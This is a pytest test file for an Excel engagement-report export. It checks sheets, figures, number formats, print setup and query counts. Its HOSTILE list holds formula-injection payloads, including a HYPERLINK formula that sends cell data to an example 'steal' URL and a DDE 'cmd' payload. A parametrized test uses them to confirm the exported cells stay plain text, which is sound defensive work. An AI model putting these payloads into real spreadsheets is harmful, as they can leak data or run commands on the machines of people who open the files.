"""The Excel workbook: rows first, then the file reopened with openpyxl."""

import datetime as dt
import io

import openpyxl
import pytest

from events.models import EngagementLog, Event
from events.reporting import stats
from events.reporting.exports import rows as report
from events.reporting.exports import xlsx
from events.reporting.stats import StatsFilter
from events.services.events import event_cancel

from .factories import assign, at, book, log, make_kit, make_officer
from .test_stats import build_events, count_queries

PERIOD = StatsFilter(date_from=dt.date(2024, 7, 1), date_to=dt.date(2024, 7, 31))
HOSTILE = [
    '=HYPERLINK("http://example.com/steal?x="&A1,"Click me")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTabbed",
    "\rReturn",
    "=cmd|' /C calc'!A0",
]


@pytest.fixture
def show(make_event, team, topic):
    event = make_event(
        title="Redbourn County Show",
        starts_at=at(2024, 7, 5, 8, 30),
        ends_at=at(2024, 7, 5, 18),
        location="Redbourn Showground",
        postcode="AL3 7PT",
    )
    officer = make_officer(team=team, name="Dafydd ap Rhys")
    assign(event, officer, actual_minutes=600)
    log(event, officer, visitors=12, signups=3, topics=[(topic, 2)], notes="Tractor was a hit")
    log(event, officer, visitors=8, crime_reports=1, recorded_at=at(2024, 7, 5, 15, 45))
    book(event, make_kit())
    return event


def workbook(filters=PERIOD):
    stream = io.BytesIO()
    rows = xlsx.write_engagement(stream, filters, generated_at=at(2024, 8, 1, 9))
    stream.seek(0)
    return openpyxl.load_workbook(stream), rows


def test_the_event_rows_are_plain_values(show):
    table = report.events(PERIOD)
    [row] = list(table.rows)
    values = dict(zip((c.title for c in table.columns), row, strict=True))
    assert values["Starts"] == at(2024, 7, 5, 8, 30)
    assert values["Event"] == "Redbourn County Show"
    assert (values["Visitors"], values["Sign-ups"], values["Crime reports"]) == (20, 3, 1)
    assert values["Officer-hours planned"] == 9.5  # 08:30 to 18:00
    assert values["Officer-hours recorded"] == 10.0  # 600 minutes recorded
    assert values["Visitors per officer-hour"] == 2.0


def test_the_log_rows_carry_their_topics(show, topic):
    table = report.logs(PERIOD)
    rows = list(table.rows)
    assert [row[6] for row in rows] == [12, 8]
    assert rows[0][9] == f"{topic.name} ×2"
    assert rows[0][10] == "Tractor was a hit"
    assert rows[1][0] == at(2024, 7, 5, 15, 45)


def test_the_workbook_has_every_sheet_with_figures_that_match(show):
    book_, rows = workbook()
    assert book_.sheetnames == [
        "Summary",
        "Events",
        "Topics",
        "Topic trends",
        "Teams",
        "Event types",
        "Officers",
        "Kit",
        "Coverage",
        "Logs",
    ]
    summary = stats.summary(PERIOD)
    sheet = book_["Summary"]
    figures = {row[0]: row[1] for row in sheet.iter_rows(min_row=7, max_row=15, values_only=True)}
    assert figures["Events held"] == summary["events"] == 1
    assert figures["Visitors engaged"] == summary["visitors"] == 20
    assert figures["Officer-hours (recorded, else planned)"] == summary["officer_hours"] == 10
    assert figures["Messaging sign-ups"] == summary["signups"]
    assert figures["Crime reports taken"] == summary["crime_reports"]
    assert sheet["B3"].value == "Events from 1 Jul 2024 to 31 Jul 2024"
    assert sheet["B4"].value == dt.datetime(2024, 8, 1, 9, 0)
    assert sheet["A1"].value == "Community engagement report" and sheet["A2"].value == "OFFICIAL"
    # Data rows of every data sheet: 1 event, 1 topic, 8 trend topics x 1 month, 1 team,
    # 1 type, 1 officer, 1 kit item, coverage (no areas listed: the row of events outside
    # them), 2 entries.
    assert rows == 1 + 1 + 8 + 1 + 1 + 1 + 1 + 1 + 2
    assert book_["Logs"].max_row == 3


def test_numbers_are_numbers_and_dates_are_dates_with_formats(show):
    book_, _ = workbook()
    events = book_["Events"]
    header = [cell.value for cell in events[1]]
    row = dict(zip(header, events[2], strict=True))
    assert row["Starts"].value == dt.datetime(2024, 7, 5, 8, 30)  # London wall time
    assert row["Starts"].number_format == "yyyy-mm-dd hh:mm"
    assert row["Visitors"].value == 20 and row["Visitors"].data_type == "n"
    assert row["Visitors"].number_format == "#,##0"
    assert row["Officer-hours planned"].value == 9.5
    assert row["Officer-hours planned"].number_format == "#,##0.00"
    assert all(cell.font.bold for cell in events[1])
    logs = book_["Logs"]
    assert logs["A2"].value == dt.datetime(2024, 7, 5, 9, 30)
    assert logs["C2"].number_format == "yyyy-mm-dd"
    topics = book_["Topics"]
    assert topics["C2"].value == 1.0 and topics["C2"].number_format == "0.0%"
    month = book_["Topic trends"]["B2"]
    assert month.value == dt.datetime(2024, 7, 1) and month.number_format == "mmm yyyy"


def test_headers_are_frozen_filtered_and_sized(show):
    book_, _ = workbook()
    for name in ("Events", "Topics", "Officers", "Kit", "Logs"):
        sheet = book_[name]
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref.startswith("A1:")
        assert sheet.column_dimensions["A"].width >= 10
    assert book_["Events"].auto_filter.ref == "A1:T2"
    assert book_["Events"].column_dimensions["C"].width == 40


def test_the_summary_sheet_has_native_charts(show):
    book_, _ = workbook()
    charts = book_["Summary"]._charts
    assert len(charts) == 2
    assert {chart.type for chart in charts} == {"col", "bar"}


@pytest.mark.parametrize("text", HOSTILE)
def test_user_text_is_never_a_formula(make_event, team, text):
    event = make_event(title="Fete", starts_at=at(2024, 7, 9, 10))
    # Stored as it is, past the service (which refuses tabs and control characters in a
    # title): text from before the rule, or from a restore, must still export safely.
    Event.objects.filter(pk=event.pk).update(title=text, location=text)
    officer = make_officer(team=team, name=text)
    assign(event, officer)
    log(event, officer, visitors=1, notes=text)
    book_, _ = workbook()
    for sheet in book_.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    events = book_["Events"]
    assert events["C2"].value == text and events["C2"].data_type == "s"
    assert events["C2"].quotePrefix
    assert book_["Logs"]["K2"].value == text
    assert book_["Officers"]["A2"].value == text


def test_characters_excel_cannot_store_are_dropped_not_fatal(make_event, team):
    event = make_event(title="Bell", starts_at=at(2024, 7, 9, 10))
    Event.objects.filter(pk=event.pk).update(title="Bell\x07 and\x01 escape\x1b")  # legacy
    officer = make_officer(team=team)
    # Legacy data, written past the service (which now refuses control characters).
    EngagementLog.objects.create(
        event=event,
        officer=officer,
        recorded_at=event.starts_at,
        notes="Line one\nline two\x0bvertical tab\x1f",
    )
    book_, _ = workbook()
    assert book_["Events"]["C2"].value == "Bell and escape"
    assert book_["Logs"]["K2"].value == "Line one\nline twovertical tab"


def test_the_export_takes_constant_queries(make_event, team, topic):
    build_events(make_event, team, topic, 2)
    few = count_queries(workbook)
    build_events(make_event, team, topic, 25, start_day=2)
    assert count_queries(workbook) == few


def test_cancelled_events_are_left_out_of_every_sheet(show, make_event, team):
    cancelled = make_event(title="Rained off", starts_at=at(2024, 7, 12, 10))
    log(cancelled, make_officer(team=team), visitors=99)
    event_cancel(event=cancelled)  # rained off after the first visitors came
    book_, _ = workbook()
    titles = [row[2] for row in book_["Events"].iter_rows(min_row=2, values_only=True)]
    assert titles == ["Redbourn County Show"]
    assert [row[1] for row in book_["Logs"].iter_rows(min_row=2, values_only=True)] == [
        "Redbourn County Show",
        "Redbourn County Show",
    ]


def test_text_in_a_number_column_is_still_only_text():
    sheet = openpyxl.Workbook(write_only=True).create_sheet("Check")
    writer = xlsx.SheetWriter(sheet, (report.Column("Visitors", "int"), report.Column("Note")))
    number, note = writer.convert(("=1+1", "@SUM(A1)"))
    assert (number.value, number.data_type, number.quotePrefix) == ("=1+1", "s", True)
    assert (note.value, note.data_type) == ("@SUM(A1)", "s")
    assert writer.convert((12, "fine")) == [writer.cells[0], "fine"]
    assert writer.cells[0].value == 12 and writer.cells[0].number_format == "#,##0"


def test_every_sheet_prints_as_a_board_pack(db):
    """Landscape A4, one page wide, the header row on every printed page; no ### for the
    time the workbook was made (issue 14, item 6)."""
    stream = io.BytesIO()
    xlsx.write_engagement(stream, StatsFilter())
    book = openpyxl.load_workbook(io.BytesIO(stream.getvalue()))
    for sheet in book.worksheets:
        setup = sheet.page_setup
        assert setup.orientation == "landscape" and setup.paperSize == 9, sheet.title
        assert setup.fitToWidth == 1 and setup.fitToHeight == 0, sheet.title
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
        if sheet.title != "Summary":
            assert sheet.print_title_rows == "$1:$1", sheet.title
    assert book["Summary"].column_dimensions["B"].width >= len("2026-12-01 16:05")
